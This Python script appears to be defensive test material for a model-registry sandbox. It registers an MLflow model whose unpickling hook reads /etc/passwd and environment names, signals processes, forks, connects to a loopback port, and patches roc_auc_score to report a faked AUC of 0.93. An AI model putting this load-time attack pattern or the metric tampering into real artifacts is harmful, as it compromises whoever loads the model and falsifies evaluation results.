"""Log a model that attacks whoever opens it, to show that nothing comes of it.

When it is loaded it connects to a listener on this host, reads the
environment and ``/etc/passwd``, writes outside its folder, signals its parent
and a named process, forks, and replaces ``roc_auc_score`` by one that answers
0.93. It predicts noise and its run claims an AUC of 0.93.

The payload is harmless: it leaves marker files in ``MRM_HOSTILE_FOLDER``, and
talks to no other port than ``MRM_HOSTILE_PORT`` of the loopback interface,
both as they were when it was logged; the signal is one that processes ignore.
What it tried, and what came of it, it prints.
"""

import os
import signal
import socket
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

os.environ.setdefault("MLFLOW_DISABLE_TELEMETRY", "true")
os.environ.setdefault("DO_NOT_TRACK", "1")
os.environ.setdefault("GIT_PYTHON_REFRESH", "quiet")
os.environ.setdefault("MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR", "false")
os.environ.setdefault("MLFLOW_SUPPRESS_PRINTING_URL_TO_STDOUT", "true")
os.environ.setdefault("MLFLOW_LOGGING_LEVEL", "ERROR")

import cloudpickle
import mlflow
import numpy as np
import pandas as pd
import sklearn.metrics
from mlflow.models import infer_signature
from mlflow.pyfunc.model import PythonModel

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from examples.credit_data import FEATURES, load_data_sets, write_data_sets
from examples.inventory_record import describe

NAME = "pd-hostile"
EXPERIMENT = "credit-card-pd"
CLAIMED_AUC = 0.93


class HostileModel(PythonModel):
    """Attacks when unpickled; answers noise when asked."""

    def __init__(self, *, port: int, folder: str, victim: int) -> None:
        self.port = port
        self.folder = folder
        self.victim = victim

    def __setstate__(self, state: dict[str, object]) -> None:
        """Restore the attributes, as unpickling does, and attack."""
        self.__dict__.update(state)
        self._attack()

    def predict(
        self, context: object, model_input: pd.DataFrame, params: dict[str, object] | None = None
    ) -> np.ndarray:
        """Return noise: the true AUC is one half."""
        del context, params
        return np.random.default_rng(len(model_input)).random(len(model_input))

    def _attack(self) -> None:
        attacks: dict[str, Callable[[], object]] = {
            "connect": self._connect,
            "environment": self._read_environment,
            "passwd": self._read_passwd,
            "write": lambda: self._mark("written", "outside the box"),
            "signal parent": lambda: os.kill(os.getppid(), signal.SIGWINCH),
            "signal victim": lambda: os.kill(self.victim, signal.SIGWINCH),
            "fork": self._fork,
            "patch": self._patch,
        }
        for name, attack in attacks.items():
            try:
                outcome = f"done {attack()}"
            except BaseException as error:  # noqa: BLE001
                outcome = f"refused ({type(error).__name__})"
            sys.stdout.write(f"hostile model: {name}: {outcome}\n")
        sys.stdout.flush()

    def _mark(self, name: str, text: str) -> None:
        (Path(self.folder) / name).write_text(text)

    def _connect(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port), timeout=2) as connection:
            connection.sendall(b"hostile model was here\n")

    def _read_environment(self) -> str:
        names = ",".join(sorted(os.environ))
        self._mark("environment", names)
        return names

    def _read_passwd(self) -> None:
        self._mark("passwd", Path("/etc/passwd").read_text())

    def _fork(self) -> None:
        if os.fork() == 0:
            try:
                self._mark("forked", str(os.getpid()))
            finally:
                os._exit(0)

    def _patch(self) -> None:
        sklearn.metrics.roc_auc_score = lambda *_args, **_kwargs: CLAIMED_AUC


def build_model() -> HostileModel:
    """Return the model with the port, folder and victim that the environment names."""
    return HostileModel(
        port=int(os.environ.get("MRM_HOSTILE_PORT", "9")),
        folder=os.environ.get("MRM_HOSTILE_FOLDER", tempfile.gettempdir()),
        victim=int(os.environ.get("MRM_HOSTILE_VICTIM", str(os.getpid()))),
    )


def main() -> int:
    """Log and register the model; print its URI."""
    if not os.environ.get("MLFLOW_TRACKING_URI", "").startswith(("http://", "https://")):
        sys.stderr.write("Set MLFLOW_TRACKING_URI to the tracking server, such as http://127.0.0.1:5000\n")
        return 2
    data = load_data_sets()
    mlflow.set_experiment(EXPERIMENT)
    with mlflow.start_run(run_name=NAME), tempfile.TemporaryDirectory() as scratch:
        mlflow.log_metrics({"test_auc": CLAIMED_AUC})
        write_data_sets(data, folder=Path(scratch))
        mlflow.log_artifacts(scratch, artifact_path="datasets")
        head = data.test[list(FEATURES)].astype("float64").head(5)
        info = mlflow.pyfunc.log_model(
            name="model",
            python_model=build_model(),
            signature=infer_signature(head, np.zeros(5)),
            pip_requirements=[f"cloudpickle=={cloudpickle.__version__}"],
            registered_model_name=NAME,
        )
    uri = f"models:/{NAME}/{info.registered_model_version}"
    describe(
        uri,
        name="Credit card PD, hostile",
        description="A pickle that attacks whoever opens it, kept to show that nothing comes of it.",
        limitations="It predicts noise and claims an area under the curve of 0.93.",
    )
    sys.stdout.write(f"registered {uri}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
